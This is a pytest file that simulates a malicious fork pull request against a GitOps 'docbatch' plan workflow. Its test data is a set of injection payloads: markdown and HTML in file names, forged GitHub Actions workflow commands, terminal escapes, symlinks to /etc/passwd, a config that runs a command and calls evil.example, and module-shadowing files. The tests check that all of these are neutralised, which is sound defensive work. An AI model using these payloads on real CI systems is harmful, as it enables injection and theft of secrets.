"""A fork that attacks whoever plans its pull request: it learns nothing, and its plan is text that says what it does not know."""

import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.gitops.forge import Comment
from tests.gitops.github_runner import JobRun
from tests.gitops.site import CANARY, Site

NAMES = (
    "](evil.example) [click](evil.example).txt",
    "<img src=x onerror=alert(1)>.txt",
    "</details><h1>0 USD<!--.txt",
    "@everyone and #1 and GH-1.txt",
    "\n::set-output name=digest::" + "0" * 64 + "\n.txt",
    "\n::add-mask::USD\n::error::owned\n.txt",
    "a\ndigest=" + "0" * 64 + "\ndue=false\n.txt",
    "`code` **bold** | cell ~~gone~~.txt",
    "\x1b[31m\x1b]0;owned\x07\u202egnp.txt",
    "www.evil.example mailto:you@evil.example.txt",
    "\n### docbatch plan: Nothing is due.\n.txt",
)
JOB = """apiVersion: docbatch/v1
name: invoices
source: {{{source}}}
provider: extend
sink: [{{type: files, path: "out/{{{{ doc.path }}}}.md"}}]
"""
PROJECT = """apiVersion: docbatch/v1
project: {{id: pmallory00001}}
providers: {{extend: {{{connection}}}}}
"""
OWNED = "open('owned', 'w')\n"


def attack(site: Site, files: Mapping[str, str], links: Mapping[str, str]) -> tuple[JobRun, Comment]:
    """Open a pull request from a fork; return how it was planned, and the comment on it."""
    fork = site.forked()
    for name, target in links.items():
        (fork / name).parent.mkdir(parents=True, exist_ok=True)
        (fork / name).symlink_to(target)
    site.commit(fork, "help", files)
    request = site.request(fork, "help", "mallory")
    planned = site.reviewed(site.github(), request, fork)
    (comment,) = site.forge.comments[request.number]
    return planned.jobs["plan"], comment


def is_text(comment: Comment) -> None:
    """Require that GitHub makes nothing of a comment but headings, tables, lists and what unfolds."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(comment.body)
    inline = [each for token in tokens for each in [token, *(token.children or [])]]
    assert not {each.type for each in inline} & {"link_open", "image", "em_open", "fence", "s_open"}
    html = "".join(each.content for each in inline if each.type.startswith("html"))
    tags = re.sub(r"<!--.*?-->", "", html, flags=re.DOTALL)
    assert set(re.findall(r"<[^>]*>", tags)) <= {"<details>", "</details>", "<summary>", "</summary>"}
    assert [each.tag for each in tokens if each.type == "heading_open"] == ["h3"]
    assert not re.search(r"@\w|(?<!&)#\d|://|www\.|\x1b|\u202e", comment.body)


def learned_nothing(site: Site, planned: JobRun, comment: Comment) -> None:
    told = comment.body + planned.log + planned.summary
    assert CANARY not in told
    assert site.lake.requests == []
    assert "root:x:" not in told
    assert planned.commands == []
    assert planned.outputs == {}
    assert not list(site.root.rglob("owned"))


def test_names_and_a_connection_that_attack_are_text(site: Site) -> None:
    connection = (
        'api_key: {command: [touch, owned]}, base_url: "https://evil.example", workspace: {env: SECRET}'
    )
    files = {
        **{f"inbox/{name}": f"words of {name}" for name in NAMES},
        "docbatch.yaml": PROJECT.format(connection=connection),
        "jobs/invoices.yaml": JOB.format(source='include: "inbox/**"'),
        ".docbatch/state.db": "forged",
        "pip.py": OWNED,
        "yaml.py": OWNED,
        "docbatch/__init__.py": OWNED,
        "sitecustomize.py": OWNED,
    }

    planned, comment = attack(site, files, {"inbox/link.txt": "/etc/passwd", "inbox/up": "../../.."})

    assert planned.conclusion == "success", planned.log
    is_text(comment)
    learned_nothing(site, planned, comment)
    assert "there is no state here: what was paid before is not known" in comment.body
    assert f"{len(NAMES) + 1} documents" in comment.body.splitlines()[0]


@pytest.mark.parametrize(
    ("name", "files"),
    [
        ("root", {"jobs/invoices.yaml": JOB.format(source='root: /etc, include: "passwd"')}),
        ("list", {"jobs/invoices.yaml": JOB.format(source="urls_from: ../../../../etc/passwd")}),
        ("workspace", {"docbatch.yaml": PROJECT.format(connection="workspace: {file: /etc/passwd}")}),
        ("huge", {"docbatch.yaml": PROJECT.format(connection="") + "# no end\n" * 400_000}),
        ("words", {"jobs/invoices.yaml": "\x1b[31m]: ::error::@everyone ![x](http://evil.example)\n"}),
    ],
)
def test_what_leads_out_of_the_checkout_or_has_no_end_is_refused_and_said(
    site: Site, name: str, files: Mapping[str, str]
) -> None:
    planned, comment = attack(site, files, {})

    assert planned.conclusion == "failure"
    assert comment.body.startswith("### docbatch: there is no plan (exit code ")
    assert all(line.startswith("    ") for line in comment.body.splitlines()[2:-2] if line), comment.body
    assert len(comment.body) < 65_536
    learned_nothing(site, planned, comment)


def test_a_workflow_that_lies_is_not_repeated(site: Site) -> None:
    text = (site.clone / ".github/workflows/plan.yml").read_text()
    head, _, tail = text.partition("          mkdir ")
    lie = 'mkdir "$RUNNER_TEMP/plan"; echo "### docbatch plan: Nothing is due. @acme merge" > "$RUNNER_TEMP/plan/plan.md"\n'
    upload = tail[tail.index("      - if:") :]

    planned, comment = attack(site, {".github/workflows/plan.yml": f"{head}          {lie}{upload}"}, {})

    assert planned.conclusion == "success"
    assert comment.body.startswith("### docbatch: no plan is shown")
    assert "`.github/`" in comment.body
    assert "Nothing is due" not in comment.body


def test_a_long_plan_is_cut_to_what_a_comment_takes(tmp_path: Path) -> None:
    from tests.gitops.site import comment_module

    (tmp_path / "plan.md").write_text("é" * 100_000)
    (tmp_path / "link.md").symlink_to("/etc/passwd")
    module = comment_module()

    assert len(module.plan(tmp_path / "plan.md")) < 65_536
    with pytest.raises(OSError, match="symbolic links"):
        module.plan(tmp_path / "link.md")
